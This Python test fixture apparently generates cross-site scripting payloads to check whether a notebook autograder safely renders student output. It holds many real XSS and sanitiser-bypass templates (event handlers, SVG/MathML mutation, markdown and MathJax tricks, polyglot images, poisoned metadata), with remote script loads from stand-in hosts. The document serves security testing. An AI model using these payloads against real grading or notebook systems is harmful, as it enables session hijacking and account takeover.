"""What a student can write in the hope that it runs in the browser of whoever grades it.

`FIRED('name')` tells the test that a payload ran; a request to NAME.elsewhere.test tells that it
called home. A link is called like its payload, so that one that would do harm can be named.
"""

import base64
import io
from dataclasses import dataclass

from PIL import Image


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def pixel() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (2, 2), "teal").save(file, "PNG")
    return file.getvalue()


def gif_and_script(script: str) -> bytes:
    """A picture that is a script, too: its width and height begin a comment."""
    file = io.BytesIO()
    Image.new("RGB", (0x2F, 0x2A), "teal").save(file, "GIF")
    picture = bytearray(file.getvalue())
    picture[6:10] = b"/*\0\0"
    return bytes(picture) + b"*/=1;" + script.encode()


@dataclass(frozen=True)
class Payload:
    """One thing to try.

    Attributes:
        name: what it tells when it fires.
        mime_type: of the output that it is.
        content: the output's data.
        metadata: the output's metadata.
    """

    name: str
    mime_type: str
    content: object
    metadata: object = None


_HTML = {
    # --- scripts, plainly and in disguise
    "script": "<script>{fire}</script>",
    "script-src": "<script src='http://{name}.elsewhere.test/x.js'></script>",
    "script-module": "<script type=module>{fire}</script>",
    "script-data": "<script src=\"data:text/javascript,{fire}\"></script>",
    "script-mathjax": "<script type='text/x-mathjax-config'>{fire}</script>",
    "script-case": "<ScRiPt >{fire}</sCrIpT >",
    "script-slash": "<script/x>{fire}</script/x>",
    "script-in-script": "<scr<script></script>ipt>{fire}</scr</script>ipt>",
    "script-after-style": "<style></style><scr<style></style>ipt>{fire}</script>",
    "script-after-svg": "<scr<svg></svg>ipt>{fire}</script>",
    # --- handlers
    "img-error": "<img src=x onerror=\"{fire}\">",
    "img-no-spaces": "<img/src=x/onerror={fire}>",
    "img-backquotes": "<img src=`x`onerror={fire}>",
    "img-entities": "<img src=x onerror='{entities}'>",
    "img-broken-quote": "<img \"\"\"><img src=x onerror=\"{fire}\">\">",
    "img-newlines": "<img\nsrc\n=\nx\nonerror\n=\n\"{fire}\"\n>",
    "img-unfinished": "<img src=x onerror={fire}//",
    "details-toggle": "<details open ontoggle=\"{fire}\"><summary>a</summary></details>",
    "input-focus": "<input autofocus onfocus=\"{fire}\">",
    "video-error": "<video><source onerror=\"{fire}\"></video>",
    "audio-error": "<audio src=x onerror=\"{fire}\"></audio>",
    "body-load": "<body onload=\"{fire}\">",
    "marquee-start": "<marquee onstart=\"{fire}\">a</marquee>",
    "style-load": "<style onload=\"{fire}\">a {{color: red}}</style>",
    "link-load": "<link rel=stylesheet href='data:text/css,a' onload=\"{fire}\">",
    "animation-start": (
        "<style>@keyframes k {{from {{top: 0}}}}</style>"
        "<b style='animation: k 1s' onanimationstart=\"{fire}\">a</b>"
    ),
    "tab-focus": "<b tabindex=1 autofocus onfocus=\"{fire}\">a</b>",
    # --- SVG and MathML, also where parsers disagree
    "svg-load": "<svg onload=\"{fire}\"></svg>",
    "svg-script": "<svg><script>{fire}</script></svg>",
    "svg-animate": "<svg><animate onbegin=\"{fire}\" attributeName=x dur=1s></svg>",
    "svg-set": "<svg><set attributeName=onmouseover onbegin=\"{fire}\"></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=\"{fire}\"></foreignObject></svg>",
    "svg-image": "<svg><image href=x onerror=\"{fire}\"></image></svg>",
    "svg-use": "<svg><use href='http://{name}.elsewhere.test/x.svg#a'></use></svg>",
    "svg-remote": "<svg><image href='http://{name}.elsewhere.test/x.png'></image></svg>",
    "svg-style": "<svg><style><img src=x onerror=\"{fire}\"></style></svg>",
    "svg-desc": "<svg><desc><img src=x onerror=\"{fire}\"></desc></svg>",
    "svg-link": "<svg><a xlink:href=\"javascript:{fire}\"><text y=20>{name}</text></a></svg>",
    "math-link": "<math><mtext href=\"javascript:{fire}\">{name}</mtext></math>",
    "math-mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=x onerror={fire}&gt;\">"
    ),
    "form-mutation": (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        "<path id=\"</style><img src=x onerror={fire}>\">"
    ),
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror={fire}>\"></noscript>",
    "template": "<template><script>{fire}</script></template><img src=x onerror=\"{fire}\">",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=\"{fire}\"></template></div>",
    "title-end": "<title><a title=\"</title><img src=x onerror={fire}>\"></title>",
    "textarea-end": "<textarea><a title=\"</textarea><img src=x onerror={fire}>\"></textarea>",
    "xmp-end": "<xmp><a title=\"</xmp><img src=x onerror={fire}>\"></xmp>",
    "comment-end": "<!--><img src=x onerror=\"{fire}\">-->",
    "comment-bang": "<!-- --!><img src=x onerror=\"{fire}\"> -->",
    "cdata": "<![CDATA[><img src=x onerror=\"{fire}\">]]>",
    "select": "<select><template><img src=x onerror=\"{fire}\"></template></select>"
    "<select></select><img src=x onerror=\"{fire}\">",
    # --- other pages
    "iframe": "<iframe src='http://{name}.elsewhere.test/'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>{fire}</script>\"></iframe>",
    "iframe-script": "<iframe src=\"javascript:parent.{fire}\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<script>{fire}</script>\"></iframe>",
    "object": "<object data=\"data:text/html;base64,{page}\"></object>",
    "embed": "<embed src=\"data:text/html;base64,{page}\">",
    "frameset": "<frameset><frame src='http://{name}.elsewhere.test/'></frameset>",
    "form": "<form action='http://{name}.elsewhere.test/'><input name=a><button>b</button></form>",
    "formaction": "<form><button formaction=\"javascript:{fire}\">b</button></form>",
    # --- calls home without any script
    "img-remote": "<img src='http://{name}.elsewhere.test/x.png'>",
    "img-scheme-relative": "<img src='//{name}.elsewhere.test/x.png'>",
    "img-srcset": "<img srcset='http://{name}.elsewhere.test/x.png 1x'>",
    "picture": "<picture><source srcset='http://{name}.elsewhere.test/x.png'><img></picture>",
    "video-poster": "<video poster='http://{name}.elsewhere.test/x.png'></video>",
    "link-sheet": "<link rel=stylesheet href='http://{name}.elsewhere.test/x.css'>",
    "link-preload": "<link rel=preload as=image href='http://{name}.elsewhere.test/x.png'>",
    "style-import": "<style>@import 'http://{name}.elsewhere.test/x.css';</style>",
    "style-url": "<style>.dataframe {{background: url(http://{name}.elsewhere.test/x)}}</style>"
    "<table class=dataframe><tr><td>a</td></tr></table>",
    "style-face": "<style>@font-face {{font-family: f; src: url(http://{name}.elsewhere.test/f)}}"
    "</style><b style='font-family: f'>a</b>",
    "attribute-url": "<p style=\"background: url('http://{name}.elsewhere.test/x')\">a</p>",
    "attribute-escape": "<p style=\"background: \\75 rl(http://{name}.elsewhere.test/x)\">a</p>",
    "attribute-image-set": (
        "<p style=\"background: image-set('http://{name}.elsewhere.test/x' 1x)\">a</p>"
    ),
    "background": "<table background='http://{name}.elsewhere.test/x'><tr><td>a</td></tr></table>",
    "list-style": "<ul style='list-style: url(http://{name}.elsewhere.test/x)'><li>a</li></ul>",
    # --- links
    "link-script": "<a href=\"javascript:{fire}\">{name}</a>",
    "link-case": "<a href=\" JaVaScRiPt:{fire}\">{name}</a>",
    "link-tab": "<a href=\"java&Tab;script&colon;{fire}\">{name}</a>",
    "link-entity": "<a href=\"&#106;avascript:{fire}\">{name}</a>",
    "link-control": "<a href=\"\x01javascript:{fire}\">{name}</a>",
    "link-data": "<a href=\"data:text/html;base64,{page}\">{name}</a>",
    "link-vbscript": "<a href=\"vbscript:x\">{name}</a>",
    "link-own-file": "<a href=\"evil.html\">{name}</a>",
    "link-own-root": "<a href=\"/formgrader/manage_students\">{name}</a>",
    "link-localhost": "<a href=\"http://localhost:8888/lab\">{name}</a>",
    "area": "<map name=m><area href=\"javascript:{fire}\" shape=default></map>"
    "<img usemap=#m alt='{name}'>",
}  # fmt: skip

_LAST = {
    "base": "<base href='http://{name}.elsewhere.test/'>",
    "refresh": "<meta http-equiv=refresh content='9;url=http://{name}.elsewhere.test/'>",
    "plaintext": "<plaintext><img src=x onerror=\"{fire}\">",
}  # fmt: skip

_MARKDOWN = {
    "md-script": "<script>{fire}</script>",
    "md-block": "\n<div>\n<img src=x onerror=\"{fire}\">\n</div>\n",
    "md-inline": "words <img src=x onerror=\"{fire}\"> words",
    "md-comment": "<!-- -->\n<img src=x onerror=\"{fire}\">",
    "md-instruction": "<?x ?><img src=x onerror=\"{fire}\">",
    "md-unfinished": "<img src=x onerror={fire}//",
    "md-two-lines": "<img\nsrc=x onerror=\"{fire}\">",
    "md-list": "- a\n\n  <img src=x onerror=\"{fire}\">",
    "md-quote": "> <img src=x onerror=\"{fire}\">",
    "md-table": "|a|b|\n|-|-|\n|<img src=x onerror=\"{fire}\">|b|",
    "md-heading": "# <img src=x onerror=\"{fire}\">",
    "md-escaped-tick": "\\`<img src=x onerror=\"{fire}\">`",
    "md-ticks-two-blocks": "`\n\n<img src=x onerror=\"{fire}\">\n\n`",
    "md-fence-unfinished": "a\n~~~~x`\n<img src=x onerror=\"{fire}\">\n",
    "md-fence-in-quote": "> ```\n<img src=x onerror=\"{fire}\">\n```",
    "md-fence-in-formula": "$$\n```\n$$\n<img src=x onerror=\"{fire}\">\n\n```",
    "md-formula": "$<img src=x onerror=\"{fire}\">$",
    "md-environment": "\\begin{{a}}<img src=x onerror=\"{fire}\">\\end{{a}}",
    "md-mermaid": "```mermaid\n<img src=x onerror=\"{fire}\">\n```",
    "md-mermaid-tildes": "~~~mermaid\n</pre><img src=x onerror=\"{fire}\">\n~~~",
    "md-link": "[{name}](javascript:{fire})",
    "md-link-case": "[{name}](JaVaScript:{fire})",
    "md-link-angle": "[{name}](<javascript:{fire}>)",
    "md-link-spaces": "[{name}](   javascript:{fire})",
    "md-link-entity": "[{name}](java&#115;cript:{fire})",
    "md-link-colon": "[{name}](javascript&colon;{fire})",
    "md-link-escape": "[{name}](javascript\\:{fire})",
    "md-link-data": "[{name}](data:text/html;base64,{page})",
    "md-link-file": "[{name}](evil.html)",
    "md-link-nested": "[![{name}](x.png)](javascript:{fire})",
    "md-link-title": "[{name}](https://a.org 'x\" onmouseover=\"{fire}')",
    "md-reference": "[{name}][r-{name}]\n\n[r-{name}]: javascript:{fire}",
    "md-reference-angle": "[{name}][s-{name}]\n\n[s-{name}]:\n  <javascript:{fire}>",
    "md-autolink": "<javascript:{fire}>",
    "md-autolink-break": "<https://a.org/\"onmouseover=\"{fire}>",
    "md-picture": "![x](http://{name}.elsewhere.test/x.png)",
    "md-picture-reference": "![x][p-{name}]\n\n[p-{name}]: http://{name}.elsewhere.test/x.png",
    "md-picture-relative": "![x](//{name}.elsewhere.test/x.png)",
    "md-picture-alt": "![x\" onerror=\"{fire}](x.png)",
    "md-picture-quote": "![x](x.png\"onerror=\"{fire})",
    "md-picture-root": "![x](/logout)",
    "md-frame": "<iframe srcdoc=\"<script>{fire}</script>\"></iframe>",
    "md-style": "<style>@import 'http://{name}.elsewhere.test/x.css';</style>",
    "md-form": "<form action='http://{name}.elsewhere.test/'><input name=a></form>",
    "md-definition": "a\n: <img src=x onerror=\"{fire}\">",
}  # fmt: skip

_SVG = {
    "svgo-script": "<script>{fire}</script>",
    "svgo-load": "<g onload=\"{fire}\"/>",
    "svgo-foreign": "<foreignObject><b xmlns='http://www.w3.org/1999/xhtml'>a</b></foreignObject>",
    "svgo-remote": "<image href='http://{name}.elsewhere.test/x.png' width='9' height='9'/>",
}  # fmt: skip

_LATEX = {
    "tex-link": "$\\href{{javascript:{fire}}}{{{name}}}$",
    "tex-link-case": "$$\\href{{ JaVaScript:{fire}}}{{{name}}}$$",
    "tex-link-file": "$\\href{{evil.html}}{{{name}}}$",
    "tex-link-newcommand": "$\\newcommand{{\\h}}{{\\href}}\\h{{javascript:{fire}}}{{{name}}}$",
    "tex-link-def": "$\\def\\h#1{{\\href{{javascript:{fire}}}{{#1}}}}\\h{{{name}}}$",
    "tex-link-let": "$\\let\\h=\\href\\h{{javascript:{fire}}}{{{name}}}$",
    "tex-link-text": "$\\text{{$\\href{{javascript:{fire}}}{{{name}}}$}}$",
    "tex-link-tag": "$$x\\tag{{$\\href{{javascript:{fire}}}{{{name}}}$}}$$",
    "tex-link-rows": "\\begin{{align}}\n\\href{{javascript:{fire}}}{{{name}}}\n\\end{{align}}",
    "tex-require": "$\\require{{HTML}}\\href{{javascript:{fire}}}{{{name}}}$",
    "tex-require-far": "$\\require{{//{name}.elsewhere.test/x.js}}$",
    "tex-style": "$\\style{{background:url(http://{name}.elsewhere.test/x)}}{{x}}$",
    "tex-class": "$\\class{{x\" onclick=\"{fire}}}{{x}}$",
    "tex-id": "$\\cssId{{notebook\" onclick=\"{fire}}}{{x}}$",
    "tex-unicode": "$\\unicode[a;background:url(http://{name}.elsewhere.test/x)]{{65}}$",
    "tex-token": "$\\mmlToken{{mi}}[href=\"javascript:{fire}\"]{{{name}}}$",
    "tex-picture": "$\\mmlToken{{mglyph}}[src=\"http://{name}.elsewhere.test/x\"]{{}}$",
    "tex-box": "$\\bbox[background:url(http://{name}.elsewhere.test/x)]{{x}}$",
    "tex-enclose": "$\\require{{enclose}}\\enclose{{box}}[href=\"javascript:{fire}\"]{{{name}}}$",
    "tex-tip": "$\\require{{action}}\\texttip{{x}}{{<img src=x onerror={fire}>}}$",
    "tex-label": "$\\begin{{equation}}\\label{{\"><img src=x onerror={fire}>}}x\\end{{equation}}$",
    "tex-tag-within": "$<img src=x onerror={fire}>$",
    "tex-script": "<script type='math/tex'>\\href{{javascript:{fire}}}{{{name}}}</script>",
    "tex-mathml": (
        "<script type='math/mml'><math><mtext href='javascript:{fire}'>{name}</mtext></math>"
        "</script>"
    ),
}  # fmt: skip

_TEXT = {
    "text-tag": "<img src=x onerror=\"{fire}\">",
    "text-end": "</pre><img src=x onerror=\"{fire}\">",
    "text-ansi": "\x1b[31m<img src=x onerror=\"{fire}\">\x1b[0m",
    "text-ansi-split": "<\x1b[1mimg src=x onerror=\"{fire}\"\x1b[0m>",
    "text-ansi-odd": "\x1b[\"><img src=x onerror={fire}>m",
    "text-ansi-link": "\x1b]8;;javascript:{fire}\x07{name}\x1b]8;;\x07",
}  # fmt: skip


def _made(templates: dict[str, str], mark: str) -> dict[str, str]:
    made = {}
    for name, template in templates.items():
        name = f"{mark}-{name}"
        fire = f"FIRED('{name}')"
        made[name] = template.format(
            name=name,
            fire=fire,
            page=b64(f"<script>{fire}</script>"),
            entities="".join(f"&#{ord(letter)};" for letter in fire),
        )
    return made


def html_payloads(mark: str) -> dict[str, str]:
    return _made(_HTML, mark)


def last_payloads(mark: str) -> dict[str, str]:
    """Those that swallow or leave the page: nothing that stands behind them can fire."""
    return _made(_LAST, mark)


def markdown_payloads(mark: str) -> dict[str, str]:
    """Of markdown's own kinds, and all kinds of HTML, which markdown may hold."""
    return _made(_MARKDOWN | _LATEX | _HTML, mark)


def text_payloads(mark: str) -> dict[str, str]:
    return _made(_TEXT, mark)


def output_payloads(mark: str) -> list[Payload]:
    """Outputs of every type, with what they tell."""
    found = [Payload(name, "text/html", text) for name, text in html_payloads(mark).items()]
    found += [
        Payload(
            name,
            "image/svg+xml",
            f"<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'>{text}</svg>",
        )
        for name, text in _made(_SVG, mark).items()
    ]
    found += [
        Payload(name, "text/markdown", text) for name, text in _made(_MARKDOWN, f"{mark}o").items()
    ]
    found += [Payload(name, "text/plain", text) for name, text in text_payloads(mark).items()]
    found += [
        Payload(name, "text/latex", text)
        for name, text in _made(_TEXT | _LATEX, f"{mark}l").items()
    ]
    found += [
        Payload(name, "text/html", f"<p>{text}</p>")
        for name, text in _made(_LATEX, f"{mark}h").items()
    ]
    return [*found, *_by_type(mark)]


def _by_type(mark: str) -> list[Payload]:
    def fire(name: str) -> str:
        return f"FIRED('{mark}-{name}')"

    def tag(name: str) -> str:
        return f'"><img src=x onerror="{fire(name)}">'

    def payload(name: str, mime_type: str, content: object, metadata: object = None) -> Payload:
        return Payload(f"{mark}-{name}", mime_type, content, metadata)

    png = b64(pixel())
    return [
        payload("javascript", "application/javascript", fire("javascript")),
        payload("javascript-tag", "application/javascript", f"</script>{tag('javascript-tag')}"),
        payload("png-html", "image/png", tag("png-html")),
        payload("png-page", "image/png", b64(f"<script>{fire('png-page')}</script>")),
        payload("gif-script", "image/gif", b64(gif_and_script(fire("gif-script")))),
        payload("png-and-page", "image/png", b64(pixel() + tag("png-and-page").encode())),
        payload("svg-as-png", "image/png", b64(
            f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{fire('svg-as-png')}\"/>"
        )),
        payload("jpeg-html", "image/jpeg", tag("jpeg-html")),
        payload("png-width", "image/png", png, {"image/png": {"width": f"1 {tag('png-width')}"}}),
        payload(
            "png-handler", "image/png", png,
            {"image/png": {"height": f"1 onload={fire('png-handler')}"}},
        ),
        payload("png-alt", "image/png", png, {"image/png": {"alt": tag("png-alt")}}),
        payload(
            "png-file", "image/png", png,
            {"filenames": {"image/png": f"http://{mark}-png-file.elsewhere.test/x.png"}},
        ),
        payload("isolated", "text/html", f"<script>{fire('isolated')}</script>",
                {"text/html": {"isolated": True}}),
        payload(
            "widget", "application/vnd.jupyter.widget-view+json",
            {"model_id": tag("widget"), "version_major": 2, "version_minor": 0},
        ),
        payload("vega", "application/vnd.vegalite.v5+json", {"data": {"url": tag("vega")}}),
        payload("plotly", "application/vnd.plotly.v1+json", {"data": [{"text": tag("plotly")}]}),
        payload("vdom", "application/vdom.v1+json", {"tagName": "img", "attributes": {"src": "x"}}),
        payload("geojson", "application/geo+json", {"type": tag("geojson")}),
        payload("json", "application/json", {"a": tag("json")}),
        payload("pdf", "application/pdf", tag("pdf")),
        payload("xhtml", "application/xhtml+xml", tag("xhtml")),
        payload("mermaid", "text/vnd.mermaid", tag("mermaid")),
        payload("unknown", "text/x-made-up", tag("unknown")),
        payload("type-name", f"text/{tag('type-name')}", "a"),
        payload("evidence", "application/vnd.autograder.evidence+json", {"a": tag("evidence")}),
    ]  # fmt: skip


def attachments(mark: str) -> tuple[str, dict[str, dict[str, str]]]:
    """A cell's text that shows its attachments, and these."""
    fire = f"FIRED('{mark}-attachment')"
    bundles = {
        "a.png": {f'image/png" onerror="{fire}': "x"},
        "b.png": {"image/png": f'x" onerror="{fire}'},
        "c.png": {"text/html": b64(f"<script>{fire}</script>")},
        "d.svg": {"image/svg+xml": b64(f"<svg xmlns='x' onload=\"{fire}\"/>")},
    }
    return "\n\n".join(f"![x](attachment:{name})" for name in bundles), bundles
